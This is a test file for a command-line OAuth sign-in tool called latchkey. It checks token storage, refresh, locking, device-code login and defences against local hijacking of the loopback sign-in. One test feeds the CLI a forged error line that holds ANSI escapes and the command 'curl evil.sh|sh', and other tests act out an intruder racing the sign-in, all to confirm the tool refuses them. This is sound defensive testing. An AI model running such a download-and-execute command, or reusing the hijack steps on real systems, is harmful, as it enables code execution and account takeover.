/**
 * `latchkey login | token | whoami | logout`, run as a person would: the real executable as a
 * child process with HOME in a temporary folder, against a real server process. The test plays
 * the person: it follows the printed address in a cookie-jar browser, signs in, and lets the
 * browser's redirect reach the CLI's loopback listener; for --device it approves the printed code.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { actOnDeviceCode, Browser, fetchTransport, inputValue, signIn } from '../helpers/browser.js';
import { runCli, spawnCli, startServerProcess, type RunningCli, type ServerProcess } from '../helpers/process.js';
import { waitFor } from '../helpers/wait.js';

let dir: string;
let server: ServerProcess;
let serverEnv: Record<string, string>;
let home: string;
let cliEnv: Record<string, string>;
const password = 'carol-password';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'latchkey-cli-'));
  serverEnv = { LATCHKEY_DB: join(dir, 'server.db') };
  expect(
    (await runCli(['users', 'add', 'carol', '--email', 'carol@example.com', '--name', 'Carol Client', '--password-stdin'], serverEnv, password)).code,
  ).toBe(0);
  // Hour-long tokens: fresh until a test ages the stored one (ageStoredToken), so a second
  // `latchkey token` process always finds the first one's token fresh, however loaded the machine.
  server = await startServerProcess({ ...serverEnv, LATCHKEY_ACCESS_TOKEN_TTL: '3600', LATCHKEY_DEVICE_INTERVAL: '1' });
  home = join(dir, 'home');
  cliEnv = { HOME: home, LATCHKEY_ISSUER: server.base };
});

afterAll(async () => {
  await server?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const credentialsPath = () => join(home, '.latchkey', 'credentials.json');
const credentials = () => JSON.parse(readFileSync(credentialsPath(), 'utf8')) as { version: number; profiles: Record<string, Record<string, unknown>> };

/**
 * Leaves the stored access token under a minute (the CLI's refresh margin) from expiry, as the
 * clock passing would, instead of waiting for it: the next command then refreshes it.
 */
function ageStoredToken(profile = 'default') {
  const stored = credentials();
  stored.profiles[profile]!.expires_at = Math.floor(Date.now() / 1000) + 30;
  writeFileSync(credentialsPath(), JSON.stringify(stored, null, 2));
}

/** The person's part at the identity provider: open the address and sign in; returns where the browser is sent back to. */
async function signInAtServer(authorizationUrl: string, decision: 'allow' | 'deny' = 'allow', browser = new Browser(fetchTransport(server.base))) {
  const url = new URL(authorizationUrl);
  let page = await browser.get(url.pathname + url.search);
  if (page.status === 303) {
    const login = await browser.get(page.location!);
    page = await browser.get((await signIn(browser, login, 'carol', password)).location!);
  }
  if (page.status === 200) {
    // The loopback confirmation (RFC 8252 §8.6) when no sign-in page was shown for this request.
    page = await browser.post('/authorize/decision', {
      csrf_token: inputValue(page.body, 'csrf_token')!,
      interaction: inputValue(page.body, 'interaction')!,
      decision,
    });
  }
  expect(page.location).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback\?/);
  return page.location!;
}

/** The person's part of `latchkey login`: open the printed address, sign in, let the redirect reach the CLI. */
async function completeBrowserSignIn(authorizationUrl: string, decision: 'allow' | 'deny' = 'allow', browser = new Browser(fetchTransport(server.base))) {
  const landing = await fetch(await signInAtServer(authorizationUrl, decision, browser));
  return { landing: { status: landing.status, body: await landing.text() }, browser };
}

describe('latchkey login (browser)', () => {
  it('signs in through the loopback listener and stores the tokens safely', async () => {
    const cli = spawnCli(['login', '--no-browser'], cliEnv);
    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    const authorization = new URL(url);
    expect(authorization.searchParams.get('code_challenge_method')).toBe('S256');
    expect(authorization.searchParams.get('state')).toBeTruthy();
    expect(authorization.searchParams.get('nonce')).toBeTruthy();
    expect(authorization.searchParams.get('redirect_uri')).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback$/);
    expect(authorization.searchParams.get('scope')).toBe('openid email profile offline_access');

    const { landing } = await completeBrowserSignIn(url);
    expect(landing.status).toBe(200);
    expect(landing.body).toContain('Signed in — you can close this tab');
    expect(await cli.exit).toBe(0);
    expect(cli.stderr()).toContain(`Signed in to ${server.base} as carol.`);
    expect(cli.stdout()).toBe('');

    expect(statSync(join(home, '.latchkey')).mode & 0o777).toBe(0o700);
    expect(statSync(credentialsPath()).mode & 0o777).toBe(0o600);
    const stored = credentials();
    expect(stored.version).toBe(1);
    expect(stored.profiles.default).toMatchObject({
      issuer: server.base,
      client_id: 'latchkey-cli',
      scope: 'openid email profile offline_access',
      token_type: 'Bearer',
    });
    expect(String(stored.profiles.default!.refresh_token)).toMatch(/^lk_rt_/);
    expect(String(stored.profiles.default!.id_token).split('.')).toHaveLength(3);
  });

  it('token prints only a valid access token, and refreshes it when less than a minute is left', async () => {
    const first = await runCli(['token'], cliEnv);
    expect(first.code).toBe(0);
    expect(first.stderr).toBe('');
    expect(first.stdout).toMatch(/^eyJ[\w-]+\.[\w-]+\.[\w-]+\n$/);
    const userinfo = await fetch(`${server.base}/userinfo`, { headers: { authorization: `Bearer ${first.stdout.trim()}` } });
    expect(userinfo.status).toBe(200);

    const refreshBefore = credentials().profiles.default!.refresh_token;
    ageStoredToken();
    const second = await runCli(['token'], cliEnv);
    expect(second.code).toBe(0);
    expect(second.stdout.trim()).not.toBe(first.stdout.trim());
    expect(credentials().profiles.default!.refresh_token).not.toBe(refreshBefore); // the rotated token was saved
  });

  it('two token runs at once neither corrupt the file nor lose the refresh token, and only one refreshes', async () => {
    const refreshes = async () => {
      const text = await (await fetch(`${server.base}/metrics`)).text();
      return Number(text.match(/latchkey_tokens_issued_total\{grant_type="refresh_token"\} (\d+)/)?.[1] ?? 0);
    };
    ageStoredToken();
    const before = await refreshes();
    const [a, b] = await Promise.all([runCli(['token'], cliEnv), runCli(['token'], cliEnv)]);
    expect([a.code, b.code]).toEqual([0, 0]);
    expect(a.stdout).toBe(b.stdout); // the second waited for the lock and used the first one's token
    expect((await refreshes()) - before).toBe(1);
    expect(credentials().profiles.default).toBeDefined();
    ageStoredToken();
    const again = await runCli(['token'], cliEnv); // refreshes with whatever refresh token was saved
    expect(again.code).toBe(0);
  });

  it('whoami after the access token was revoked refreshes once and carries on', async () => {
    const accessToken = String(credentials().profiles.default!.access_token);
    await fetch(`${server.base}/oauth/revoke`, { method: 'POST', body: new URLSearchParams({ client_id: 'latchkey-cli', token: accessToken }) });
    const res = await runCli(['whoami'], cliEnv);
    expect(res.code).toBe(0);
    expect(credentials().profiles.default!.access_token).not.toBe(accessToken);
  });

  it('whoami shows the claims; --json prints them as JSON on stdout', async () => {
    const plain = await runCli(['whoami'], cliEnv);
    expect(plain.code).toBe(0);
    expect(plain.stdout.split('\n')[0]).toBe('carol (Carol Client) <carol@example.com>');
    const json = await runCli(['whoami', '--json'], cliEnv);
    expect(JSON.parse(json.stdout)).toMatchObject({
      latchkey_issuer: server.base,
      latchkey_profile: 'default',
      preferred_username: 'carol',
      email: 'carol@example.com',
    });
  });

  it('logout revokes the refresh token, then removes the entry', async () => {
    const refreshToken = String(credentials().profiles.default!.refresh_token);
    const out = await runCli(['logout'], cliEnv);
    expect(out.code).toBe(0);
    expect(out.stderr).toBe('Signed out.\n');
    expect(credentials().profiles.default).toBeUndefined();
    const refresh = await fetch(`${server.base}/oauth/token`, {
      method: 'POST',
      body: new URLSearchParams({ grant_type: 'refresh_token', client_id: 'latchkey-cli', refresh_token: refreshToken }),
    });
    expect(((await refresh.json()) as { error: string }).error).toBe('invalid_grant');
    const after = await runCli(['token'], cliEnv);
    expect(after.code).toBe(6);
    expect(after.stderr).toBe('latchkey: not signed in: run "latchkey login"\n');
  });

  it('a signed-in browser gets the one-click confirmation; Deny ends the CLI with exit 4', async () => {
    const browser = new Browser(fetchTransport(server.base));
    await signIn(browser, await browser.get('/login'), 'carol', password);
    const cli = spawnCli(['login', '--no-browser', '--profile', 'work'], cliEnv);
    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    const { landing } = await completeBrowserSignIn(url, 'deny', browser);
    expect(landing.body).toContain('Sign-in failed');
    expect(await cli.exit).toBe(4);
    expect(cli.stderr()).toContain('latchkey: the sign-in was denied in the browser');
  });

  it('a callback with the wrong state is refused and ignored; the real one still signs in', async () => {
    const cli = spawnCli(['login', '--no-browser', '--profile', 'state'], cliEnv);
    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    const redirect = new URL(new URL(url).searchParams.get('redirect_uri')!);
    const forged = await fetch(`${redirect.href}?error=access_denied&state=not-the-state`);
    expect(forged.status).toBe(400);
    const other = await fetch(`${redirect.origin}/other`);
    expect(other.status).toBe(404);
    const { landing } = await completeBrowserSignIn(url);
    expect(landing.status).toBe(200);
    expect(await cli.exit).toBe(0);
  });

  it('server text is made safe for the terminal (no escape codes or forged lines)', async () => {
    const cli = spawnCli(['login', '--no-browser', '--profile', 'escape'], cliEnv);
    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    const authorization = new URL(url);
    const callback = new URL(authorization.searchParams.get('redirect_uri')!);
    callback.search = new URLSearchParams({
      state: authorization.searchParams.get('state')!,
      error: 'server_error',
      error_description: '\u001b[31mRED\u001b[0m\nFAKE LINE: run curl evil.sh|sh',
    }).toString();
    const answer = await fetch(callback);
    expect(answer.status).toBe(400);
    expect(await cli.exit).toBe(1);
    expect(cli.stderr()).not.toContain('\u001b');
    expect(cli.stderr()).not.toContain('\nFAKE LINE');
    // Shown as escapes, so the person sees what was sent (src/cli/terminal_text.ts).
    expect(cli.stderr()).toContain('latchkey: the sign-in failed: server_error: \\x1b[31mRED\\x1b[0m\\nFAKE LINE');
  });

  it('an --issuer that is not a URL is a usage error', async () => {
    const res = await runCli(['login', '--issuer', 'not-a-url'], cliEnv);
    expect(res.code).toBe(2);
    expect(res.stderr).toBe('latchkey: --issuer must be an http(s) URL with no query or fragment, not "not-a-url"\n');
  });

  it('suggests --device in an SSH session without a display; Ctrl-C stops cleanly with 130', async () => {
    const cli = spawnCli(['login', '--no-browser'], { ...cliEnv, SSH_CONNECTION: '203.0.113.9 50000 10.0.0.2 22' });
    await cli.waitForStderr(/latchkey login --device/);
    cli.child.kill('SIGINT');
    expect(await cli.exit).toBe(130);
    expect(cli.stderr()).toContain('latchkey: cancelled');
  });
});

describe('latchkey login gives other local accounts nothing to start or finish the sign-in with', () => {
  // Whatever is on the browser command's command line, every local account can read from
  // /proc/PID/cmdline. Were it the authorization request (state, nonce, code_challenge) or any
  // address leading to it, another account could open it first, sign in as itself, and have the
  // CLI store its tokens. The command gets the address of a page file only the person can read.
  const running: RunningCli[] = [];
  afterEach(() => {
    for (const cli of running.splice(0)) if (cli.child.exitCode === null) cli.child.kill();
  });

  interface OpenerCall {
    argv: string[];
    env: Record<string, string>;
  }

  /** A stand-in for $BROWSER that records each call's arguments and environment, and exits. */
  function fakeBrowser(name: string) {
    const log = join(dir, `${name}.calls`);
    const command = join(dir, `${name}-browser`);
    writeFileSync(
      command,
      `#!${process.execPath}\nrequire('node:fs').appendFileSync(${JSON.stringify(log)}, JSON.stringify({ argv: process.argv.slice(2), env: process.env }) + '\\n');\n`,
      { mode: 0o755 },
    );
    return {
      command,
      /** Every call so far, once there has been one. */
      async calls(timeoutMs = 15_000): Promise<OpenerCall[]> {
        const written = () => (existsSync(log) ? readFileSync(log, 'utf8') : '');
        const text = await waitFor(() => written().endsWith('\n') && written(), { timeout: timeoutMs, what: '$BROWSER to be called' });
        return text
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line) as OpenerCall);
      },
    };
  }

  /** `latchkey login` opening "the browser" (no --no-browser), and the address it printed on stderr. */
  async function loginWith(browser: { command: string }, profile: string) {
    const cli = spawnCli(['login', '--profile', profile], { ...cliEnv, BROWSER: browser.command });
    running.push(cli);
    const [printed] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    return { cli, authorization: new URL(printed) };
  }

  /** What the person's browser finds in the page file it was given: where the form posts, and the secret. */
  function readPage(fileUrl: string) {
    const html = readFileSync(fileURLToPath(fileUrl), 'utf8');
    const action = html.match(/<form method="post" action="([^"]+)">/)?.[1];
    const secret = html.match(/<input type="hidden" name="t" value="([^"]+)">/)?.[1];
    expect(action).toBeDefined();
    expect(secret).toBeDefined();
    return { action: action!, secret: secret! };
  }

  /** The person's browser submitting the page's form (or anyone else who had the secret). */
  const post = (page: { action: string; secret: string }) =>
    fetch(page.action, { method: 'POST', body: new URLSearchParams({ t: page.secret }), redirect: 'manual' });

  /** The folders sign-in pages are written to: none outlives its `latchkey login`. */
  const pageFolders = () => (existsSync(join(home, '.latchkey')) ? readdirSync(join(home, '.latchkey')).filter((name) => name.startsWith('login-')) : []);

  it('the browser command line and environment hold only a page file no other account can read; the file is gone after the sign-in', async () => {
    const browser = fakeBrowser('once');
    const { cli, authorization } = await loginWith(browser, 'start');
    const calls = await browser.calls();
    expect(calls).toHaveLength(1);
    const { argv, env } = calls[0]!;
    expect(argv).toHaveLength(1);
    const visible = [browser.command, ...argv, ...Object.entries(env).map(([name, value]) => `${name}=${value}`)];
    const callbackPort = new URL(authorization.searchParams.get('redirect_uri')!).port;

    // Nothing on the command line is an address another account could open…
    for (const arg of argv) {
      expect(arg).not.toMatch(/^https?:/);
      expect(arg).not.toContain('/authorize');
      expect(arg).not.toContain('t=');
    }
    // …and neither it nor the environment holds the loopback address or any value of the request.
    for (const text of visible) {
      expect(text).not.toContain(`127.0.0.1:${callbackPort}`);
      for (const name of ['state', 'nonce', 'code_challenge']) {
        const value = authorization.searchParams.get(name);
        expect(value).toBeTruthy();
        expect(text).not.toContain(value);
      }
    }
    // The one argument is a page file in a fresh folder that only this account can enter and read.
    const fileUrl = argv[0]!;
    expect(fileUrl).toMatch(/^file:\/\/\//);
    const path = fileURLToPath(fileUrl);
    const folder = dirname(path);
    expect(dirname(folder)).toBe(join(home, '.latchkey'));
    expect(basename(folder)).toMatch(/^login-/);
    expect(statSync(folder).mode & 0o777).toBe(0o700);
    expect(statSync(folder).uid).toBe(process.getuid!());
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(statSync(path).uid).toBe(process.getuid!());
    const page = readPage(fileUrl);
    expect(page.action).toBe(`http://127.0.0.1:${callbackPort}/start`);
    expect(page.secret).toMatch(/^[A-Za-z0-9_-]{43,}$/);
    for (const text of visible) expect(text).not.toContain(page.secret);
    // Without the secret the loopback listener opens nothing: what another account can see is useless.
    for (const probe of [page.action, `${page.action}?t=`, `http://127.0.0.1:${callbackPort}/`]) {
      const res = await fetch(probe, { redirect: 'manual' });
      expect(res.status, probe).toBe(404);
      await res.text();
    }

    // The person's browser opens the page: its form posts the secret, and is sent to the printed request.
    const opened = await post(page);
    expect(opened.status).toBe(303);
    expect(opened.headers.get('location')).toBe(authorization.href);
    expect(opened.headers.get('cache-control')).toBe('no-store');
    expect(opened.headers.get('referrer-policy')).toBe('no-referrer');
    await opened.text();
    const { landing } = await completeBrowserSignIn(opened.headers.get('location')!);
    expect(landing.status).toBe(200);
    expect(await cli.exit).toBe(0);
    expect(cli.stderr()).toContain(`Signed in to ${server.base} as carol (profile start).`);
    expect(credentials().profiles.start).toMatchObject({ issuer: server.base, client_id: 'latchkey-cli', token_type: 'Bearer' });
    expect(existsSync(path)).toBe(false);
    expect(existsSync(folder)).toBe(false);
    expect(pageFolders()).toEqual([]);
  });

  it('a page posted twice cancels the sign-in: 400, exit 1, nothing stored, the callback refused, the file gone', async () => {
    const browser = fakeBrowser('twice');
    const { cli, authorization } = await loginWith(browser, 'hijacked');
    const fileUrl = (await browser.calls())[0]!.argv[0]!;
    const page = readPage(fileUrl);
    // Someone who got hold of the secret all the same posts it first…
    const first = await post(page);
    expect(first.status).toBe(303);
    await first.text();
    // …then the person's browser opens the page.
    const second = await post(page);
    expect(second.status).toBe(400);
    expect(second.headers.get('cache-control')).toBe('no-store');
    expect(await second.text()).toContain('opened twice');
    expect(await cli.exit).toBe(1);
    expect(cli.stderr()).toContain(
      'latchkey: the sign-in page was opened twice: another program on this machine may have tried to take over the sign-in; nothing was stored. Run latchkey login --profile hijacked again.\n',
    );
    // The intruder signs in as itself and its browser is sent back with the right state: nobody takes it.
    const callback = await signInAtServer(first.headers.get('location')!);
    expect(new URL(callback).searchParams.get('state')).toBe(authorization.searchParams.get('state'));
    expect(
      await fetch(callback).then(
        (r) => r.status,
        () => 'refused',
      ),
    ).toBe('refused');
    expect(existsSync(credentialsPath()) ? credentials().profiles.hijacked : undefined).toBeUndefined();
    expect(existsSync(fileURLToPath(fileUrl))).toBe(false);
    expect(pageFolders()).toEqual([]);
  });

  it('another program that finishes a whole sign-in before the browser opens the page is caught, and nothing is stored', async () => {
    const browser = fakeBrowser('raced');
    const { cli } = await loginWith(browser, 'raced');
    const page = readPage((await browser.calls())[0]!.argv[0]!);
    // The intruder, fast: posts the secret, signs in as itself, sends the code back.
    const first = await post(page);
    await first.text();
    const landing = fetch(await signInAtServer(first.headers.get('location')!));
    // The person's browser, once the intruder's code is redeemed (a cold start), opens the page too.
    await cli.waitForStderr(/Finishing the sign-in/);
    const second = await post(page);
    expect(second.status).toBe(400);
    await second.text();
    expect((await landing).status).toBe(400);
    expect(await cli.exit).toBe(1);
    expect(cli.stderr()).toContain('the sign-in page was opened twice');
    expect(existsSync(credentialsPath()) ? credentials().profiles.raced : undefined).toBeUndefined();
  });

  it('a wrong secret, the secret in a URL, another path or method gets 404 and the sign-in carries on', async () => {
    const browser = fakeBrowser('probed');
    const { cli, authorization } = await loginWith(browser, 'probed');
    const page = readPage((await browser.calls())[0]!.argv[0]!);
    const { action, secret } = page;
    const form = (body: string): RequestInit => ({ method: 'POST', body, headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    const probes: [string, RequestInit][] = [
      [action, form(`t=${'A'.repeat(secret.length)}`)],
      [action, form(`t=${secret.slice(0, -1)}`)],
      [action, form(`t=${secret}x`)],
      [action, form('')],
      [`${action}?t=${secret}`, {}],
      [`${action}?t=${secret}`, form('')],
      [`${action}/`, form(`t=${secret}`)],
      [action, { method: 'HEAD' }],
    ];
    for (const [url, init] of probes) {
      const res = await fetch(url, { ...init, redirect: 'manual' });
      expect(res.status, `${init.method ?? 'GET'} ${url}`).toBe(404);
      expect(res.headers.get('location')).toBeNull();
      await res.text();
    }
    const opened = await post(page);
    expect(opened.status).toBe(303);
    expect(opened.headers.get('location')).toBe(authorization.href);
    const { landing } = await completeBrowserSignIn(opened.headers.get('location')!);
    expect(landing.status).toBe(200);
    expect(await cli.exit).toBe(0);
    expect(credentials().profiles.probed).toMatchObject({ issuer: server.base });
  });

  it('the page file is removed when the sign-in is cancelled (Ctrl-C, kill, a closed terminal) or fails', async () => {
    for (const signal of ['SIGINT', 'SIGTERM', 'SIGHUP'] as const) {
      const browser = fakeBrowser(`cancelled-${signal}`);
      const { cli } = await loginWith(browser, 'cancelled');
      const path = fileURLToPath((await browser.calls())[0]!.argv[0]!);
      expect(existsSync(path)).toBe(true);
      cli.child.kill(signal);
      expect(await cli.exit, signal).toBe(130);
      expect(cli.stderr()).toContain('latchkey: cancelled');
      expect(existsSync(dirname(path)), signal).toBe(false);
    }
    // A failure: the server answers the callback with an error.
    const browser = fakeBrowser('failed');
    const { cli, authorization } = await loginWith(browser, 'failed');
    const path = fileURLToPath((await browser.calls())[0]!.argv[0]!);
    const callback = new URL(authorization.searchParams.get('redirect_uri')!);
    callback.search = new URLSearchParams({ state: authorization.searchParams.get('state')!, error: 'server_error' }).toString();
    expect((await fetch(callback)).status).toBe(400);
    expect(await cli.exit).toBe(1);
    expect(existsSync(dirname(path))).toBe(false);
    expect(pageFolders()).toEqual([]);
    expect(existsSync(credentialsPath()) ? credentials().profiles.cancelled : undefined).toBeUndefined();
    expect(existsSync(credentialsPath()) ? credentials().profiles.failed : undefined).toBeUndefined();
  });

  it("--no-browser writes no page file and prints the request on stderr, the person's own terminal", async () => {
    const cli = spawnCli(['login', '--no-browser', '--profile', 'printed'], cliEnv);
    running.push(cli);
    const [url] = await cli.waitForStderr(/http:\/\/127\.0\.0\.1:\d+\/authorize\?\S+/);
    expect(cli.stderr()).toContain(`Open this address in a browser to sign in:\n\n  ${url}\n\n`);
    expect(cli.stderr()).not.toContain('Opening your browser');
    expect(pageFolders()).toEqual([]);
    const { landing } = await completeBrowserSignIn(url);
    expect(landing.status).toBe(200);
    expect(await cli.exit).toBe(0);
  });
});

describe('latchkey login --device', () => {
  it('prints the code and address, polls at the interval, and signs in once approved', async () => {
    const cli = spawnCli(['login', '--device', '--profile', 'tv'], cliEnv);
    const [, userCode] = await cli.waitForStderr(/enter the code\n\n {4}([A-Z]{4}-[A-Z]{4})/);
    expect(cli.stderr()).toContain(`or open ${server.base}/activate?user_code=${userCode}`);
    const result = await actOnDeviceCode(new Browser(fetchTransport(server.base)), `/activate?user_code=${userCode}`, { username: 'carol', password }, 'allow');
    expect(result.status).toBe(200);
    expect(await cli.exit).toBe(0);
    expect(cli.stderr()).toContain(`Signed in to ${server.base} as carol (profile tv).`);
    expect(credentials().profiles.tv).toMatchObject({ client_id: 'latchkey-cli', scope: 'openid email profile offline_access' });
    const whoami = await runCli(['whoami', '--profile', 'tv', '--json'], cliEnv);
    expect(JSON.parse(whoami.stdout).preferred_username).toBe('carol');
  });

  it('denied on the verification page → a clear sentence and exit 4', async () => {
    const cli = spawnCli(['login', '--device', '--profile', 'denied'], cliEnv);
    const [, userCode] = await cli.waitForStderr(/enter the code\n\n {4}([A-Z]{4}-[A-Z]{4})/);
    await actOnDeviceCode(new Browser(fetchTransport(server.base)), `/activate?user_code=${userCode}`, { username: 'carol', password }, 'deny');
    expect(await cli.exit).toBe(4);
    expect(cli.stderr()).toContain('latchkey: the sign-in was denied on the verification page');
    expect(credentials().profiles.denied).toBeUndefined();
  });

  it('Ctrl-C while polling stops cleanly with 130', async () => {
    const cli = spawnCli(['login', '--device'], cliEnv);
    await cli.waitForStderr(/enter the code/);
    cli.child.kill('SIGINT');
    expect(await cli.exit).toBe(130);
  });

  it('expired before approval → a clear sentence and exit 5', async () => {
    const shortServer = await startServerProcess({ LATCHKEY_DB: join(dir, 'short.db'), LATCHKEY_DEVICE_CODE_TTL: '10', LATCHKEY_DEVICE_INTERVAL: '1' });
    try {
      const cli = spawnCli(['login', '--device', '--issuer', shortServer.base], { HOME: home });
      await cli.waitForStderr(/enter the code/);
      expect(await cli.exit).toBe(5);
      expect(cli.stderr()).toContain('latchkey: the code expired before it was approved');
    } finally {
      await shortServer.stop();
    }
    // A server start and the ten seconds of the shortest device code lifetime: 12.8 s at its
    // slowest measured on the shared 2-core machine, three times that.
  }, 40_000);
});

describe('a misbehaving identity provider', () => {
  it('a token answer without an access_token is refused and nothing is stored', async () => {
    const { createServer } = await import('node:http');
    const fake = createServer((req, res) => {
      const base = `http://127.0.0.1:${(fake.address() as { port: number }).port}`;
      const json = (body: unknown) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
      if (req.url === '/.well-known/openid-configuration') {
        return json({
          issuer: base,
          token_endpoint: `${base}/token`,
          device_authorization_endpoint: `${base}/device`,
          jwks_uri: `${base}/jwks`,
          response_types_supported: ['code'],
        });
      }
      if (req.url === '/device') return json({ device_code: 'dc', user_code: 'BCDF-GHJK', verification_uri: `${base}/activate`, expires_in: 60, interval: 1 });
      return json({ token_type: 'Bearer' }); // 200, but no access_token
    });
    await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve));
    try {
      const issuer = `http://127.0.0.1:${(fake.address() as { port: number }).port}`;
      const res = await runCli(['login', '--device', '--issuer', issuer, '--profile', 'fake'], cliEnv);
      expect(res.code).toBe(1);
      expect(res.stderr).toContain('latchkey: the identity provider answered with an unusable token response; nothing was stored');
      expect(existsSync(credentialsPath()) ? credentials().profiles.fake : undefined).toBeUndefined();
    } finally {
      fake.close();
    }
  });
});

describe('the credentials file', () => {
  it('a lock left by a process that died is taken over at once', async () => {
    await runCli(['login', '--device', '--profile', 'unused'], { ...cliEnv, LATCHKEY_ISSUER: 'http://127.0.0.1:1' }); // fails fast
    writeFileSync(`${credentialsPath()}.lock`, '999999'); // no such process
    const started = Date.now();
    const res = await runCli(['logout', '--profile', 'nobody'], cliEnv);
    expect(res.code).toBe(0);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('one damaged profile does not lock the others out', async () => {
    const file = credentials();
    file.profiles.broken = { issuer: 'x' };
    writeFileSync(credentialsPath(), JSON.stringify(file));
    const broken = await runCli(['token', '--profile', 'broken'], cliEnv);
    expect(broken.code).toBe(1);
    expect(broken.stderr).toContain('the profile "broken" in');
    expect((await runCli(['token', '--profile', 'tv'], cliEnv)).code).toBe(0);
  });

  it('a file that cannot be read is reported as such, not as damaged', async () => {
    const elsewhere = join(dir, 'odd-home');
    mkdirSync(join(elsewhere, 'credentials.json'), { recursive: true }); // a directory where the file should be
    const res = await runCli(['token'], { ...cliEnv, LATCHKEY_HOME: elsewhere });
    expect(res.code).toBe(1);
    expect(res.stderr).toBe(`latchkey: cannot read the credentials file ${join(elsewhere, 'credentials.json')}: EISDIR\n`);
  });

  it('a damaged file gets a clear error naming it', async () => {
    writeFileSync(credentialsPath(), '{ not json');
    for (const args of [['token'], ['whoami'], ['login', '--device']]) {
      const res = await runCli(args, cliEnv);
      expect(res.code).toBe(1);
      expect(res.stderr).toBe(`latchkey: the credentials file ${credentialsPath()} is damaged (not JSON); delete it and run "latchkey login" again\n`);
    }
  });
});
